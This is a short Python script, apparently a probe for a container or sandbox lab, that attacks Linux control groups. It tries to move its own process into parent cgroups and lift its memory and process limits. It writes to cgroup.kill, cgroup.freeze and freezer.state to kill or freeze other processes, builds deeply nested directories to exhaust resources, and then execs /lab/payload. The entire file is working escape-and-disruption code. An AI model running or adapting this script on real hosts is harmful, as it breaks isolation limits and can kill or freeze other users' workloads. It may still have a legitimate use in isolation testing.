#!/usr/bin/python3 -IS
# Tries to leave its groups for those above, to raise its own limits, and to kill by a group's file.
import glob, os
def write(path, text):
    try:
        open(path, "w").write(text)
    except OSError:
        pass
for top in ["/sys/fs/cgroup"] + glob.glob("/sys/fs/cgroup/*/"):
    for place in ("", "..", "../..", "../../..", "../../../.."):
        folder = os.path.join(top, place)
        for file in ("cgroup.procs", "tasks"):
            write(f"{folder}/{file}", str(os.getpid()))
        write(folder + "/memory.max", "max")
        write(folder + "/memory.limit_in_bytes", "-1")
        write(folder + "/pids.max", "max")
        write(folder + "/cgroup.kill", "1")
        write(folder + "/cgroup.freeze", "1")
        write(folder + "/freezer.state", "FROZEN")
    for number in range(20):
        try:
            os.makedirs(f"{top}/deep{number}/" + "d/" * 20)
        except OSError:
            break
os.execv("/lab/payload", ["/lab/payload", "exit", "0", "token"])
